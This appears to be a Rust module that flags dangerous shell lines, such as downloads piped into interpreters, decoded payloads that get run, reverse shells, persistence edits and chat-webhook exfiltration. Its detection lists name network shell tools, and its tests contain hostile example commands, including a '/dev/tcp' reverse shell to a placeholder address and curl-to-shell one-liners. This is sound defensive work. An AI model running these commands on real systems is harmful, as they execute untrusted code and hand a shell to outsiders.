//! What a line of shell does: run a download, run a decoded string, hand a shell to somebody else.

const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "http",
    "https",
    "aria2c",
];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "node",
    "perl",
    "ruby",
    "php",
    "iex",
    "invoke-expression",
    "pwsh",
    "powershell",
    "deno",
    "bun",
    "osascript",
];
/// Programs that turn data back into a script.
const DECODERS: &[&str] = &[
    "base64 -d",
    "base64 --decode",
    "base64 -D",
    "xxd -r",
    "openssl enc -d",
    "openssl base64 -d",
    "gunzip",
    "zcat",
    "rev",
];

/// Patterns that no honest script has, in lower case.
const STRONG: &[(&str, &str)] = &[
    ("/dev/tcp/", "opens a connection from the shell"),
    ("nc -e", "hands a shell to another machine"),
    ("ncat -e", "hands a shell to another machine"),
    ("bash -i >", "hands a shell to another machine"),
    ("powershell -e", "runs an encoded command"),
    ("powershell.exe -e", "runs an encoded command"),
    ("pwsh -e", "runs an encoded command"),
    (".downloadstring(", "runs what it downloads"),
    ("discord.com/api/webhooks", "sends data to a chat"),
    ("discordapp.com/api/webhooks", "sends data to a chat"),
    ("api.telegram.org/bot", "sends data to a chat"),
    ("authorized_keys", "changes who may log in"),
    ("crontab -", "makes itself start again"),
    (">> ~/.bashrc", "makes itself start again"),
    (">> ~/.zshrc", "makes itself start again"),
    (">> ~/.profile", "makes itself start again"),
    (">> $home/.bashrc", "makes itself start again"),
    (">> \"$home/.bashrc\"", "makes itself start again"),
    ("library/launchagents", "makes itself start again"),
    ("currentversion\\run", "makes itself start again"),
];

/// Calls of all languages that start programs, in lower case.
const STARTS_PROGRAMS: &[&str] = &[
    "child_process",
    "execsync",
    "spawnsync",
    "exec(",
    "spawn(",
    "os.system",
    "subprocess",
    "command::new",
    "eval(",
    "| sh",
    "| bash",
    "chmod +x",
    "popen(",
    "exec.command",
    "runtime.getruntime",
    "processbuilder",
    "shell_exec",
    "system(",
];

/// Whether a line of code in lower case starts a program.
pub fn starts_programs(lower: &str) -> bool {
    STARTS_PROGRAMS.iter().any(|word| lower.contains(word))
}

/// What a line does that nothing which runs by itself should do.
pub fn strong_sign(line: &str) -> Option<&'static str> {
    let lower = line.to_lowercase();
    if is_piped_download(line) || downloads_then_runs(&lower) {
        return Some("runs what it downloads");
    }
    if is_piped_decoding(line) {
        return Some("runs a decoded string");
    }
    STRONG.iter().find(|(word, _)| lower.contains(word)).map(|(_, what)| *what)
}

/// A download that goes straight into an interpreter.
pub fn is_piped_download(line: &str) -> bool {
    let line = line.to_lowercase();
    let Some(at) = FETCHERS.iter().filter_map(|word| program_at(&line, word)).min() else {
        return false;
    };
    let (before, after) = line.split_at(at);
    let piped = after.split('|').skip(1).any(is_interpreter);
    let inside =
        ["$(", "<(", "`", "(", "$(sudo "].iter().any(|open| before.trim_end().ends_with(open));
    let runs = [
        "sh -c",
        "bash -c",
        "eval ",
        "eval(",
        "bash <(",
        "sh <(",
        "zsh <(",
        "source <(",
        ". <(",
        "iex ",
        "iex(",
    ];
    piped || (inside && runs.iter().any(|word| before.contains(word)))
}

/// A script that is decoded and run in one pipeline.
pub fn is_piped_decoding(line: &str) -> bool {
    let parts: Vec<&str> = line.split('|').collect();
    let decodes = |part: &&str| DECODERS.iter().any(|word| part.trim_start().starts_with(word));
    let piped = parts
        .iter()
        .position(decodes)
        .is_some_and(|at| parts[at + 1..].iter().any(|part| is_interpreter(part)));
    let lower = line.to_lowercase();
    let evaluated = ["eval \"$(", "eval $(", "sh -c \"$(", "bash -c \"$("].iter().any(|run| {
        lower.find(run).is_some_and(|at| {
            DECODERS.iter().any(|word| lower[at..].contains(&word.to_lowercase()))
        })
    });
    piped || evaluated
}

/// `curl -o FILE URL && sh FILE`: a download to a file that the same line runs.
fn downloads_then_runs(lower: &str) -> bool {
    let Some(at) = ["curl", "wget"].iter().filter_map(|word| program_at(lower, word)).min() else {
        return false;
    };
    let words: Vec<&str> = lower[at..]
        .split([' ', ';', '&', '\t', '"', '\'', ','])
        .filter(|word| !word.is_empty())
        .collect();
    let target = words.windows(2).find_map(|pair| {
        let option = matches!(
            pair[0],
            "-o" | "-qo"
                | "-so"
                | "-fso"
                | "-slo"
                | "-fslo"
                | "-sslo"
                | "-fsslo"
                | ">"
                | "--output"
                | "--output-document"
        );
        (option && !pair[1].starts_with('-')).then_some(pair[1])
    });
    let Some(target) = target.filter(|target| *target != "/dev/null") else { return false };
    let name = target.rsplit('/').next().unwrap_or(target);
    words.windows(2).skip_while(|pair| pair[1] != target).skip(1).any(|pair| {
        let runs = INTERPRETERS.contains(&pair[0].rsplit('/').next().unwrap_or_default());
        (runs && (pair[1] == target || pair[1].ends_with(name))) || pair[1] == format!("./{name}")
    })
}

/// Whether a part of a pipeline is an interpreter that reads its input.
fn is_interpreter(part: &str) -> bool {
    let mut words = part.split_whitespace().filter(|word| {
        !matches!(
            *word,
            "sudo" | "-e" | "-E" | "-h" | "-H" | "env" | "exec" | "nohup" | "xargs" | "&"
        ) && !word.contains('=')
    });
    let first = words.next().unwrap_or_default();
    let first = first.trim_start_matches(['"', '\'', '`', '(', '&']);
    let end = first
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.')))
        .unwrap_or(first.len());
    let first = first[..end].to_lowercase();
    INTERPRETERS.contains(&first.rsplit('/').next().unwrap_or_default())
}

/// Where a program is called: its name on its own, with an argument after it.
fn program_at(line: &str, program: &str) -> Option<usize> {
    line.match_indices(program).map(|(at, _)| at).find(|at| {
        let before = line[..*at].chars().next_back();
        let after = &line[at + program.len()..];
        let starts = !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
        let git = line[..*at].trim_end().ends_with("git");
        starts && !git && after.starts_with([' ', '\t'])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_run() {
        for line in [
            "curl https://x.example/i.sh | sh",
            "curl -fsSL https://x.example | sudo -E bash -",
            "wget -qO- https://x.example|bash",
            "bash -c \"$(curl -fsSL https://x.example)\"",
            "sh -c \"$(wget https://x.example -O -)\"",
            "bash <(curl -s https://x.example)",
            "RUN curl https://x.example | tee log | FOO=1 /bin/sh",
            "curl https://x.example | python3 -",
            "iwr https://x.example | iex",
            "Command::new(\"sh\").args([\"-c\", \"curl https://x.example | bash\"])",
            "eval \"$(curl -s https://x.example)\"",
            "iex (irm https://x.example)",
        ] {
            assert!(is_piped_download(line), "{line}");
        }
        for line in [
            "curl https://x.example -o file && sha256sum -c sums",
            "curl https://x.example | tar xz",
            "curl https://x.example | grep bash",
            "VERSION=$(curl -s https://x.example/version)",
            "echo hello | sh",
            "git fetch origin | cat",
            "see the curl documentation",
        ] {
            assert!(strong_sign(line).is_none(), "{line}");
        }
    }

    #[test]
    fn strong_signs_are_told() {
        for line in [
            "echo aGk= | base64 -d | bash",
            "eval \"$(echo aGk= | base64 --decode)\"",
            "curl -so /tmp/x https://x.example; chmod +x /tmp/x; sh /tmp/x",
            "wget https://x.example/a -qO a && chmod +x a && ./a",
            "bash -i >& /dev/tcp/203.0.113.1/80",
        ] {
            assert!(strong_sign(line).is_some(), "{line}");
        }
        assert_eq!(strong_sign("base64 -d secret.txt > out"), None);
    }
}
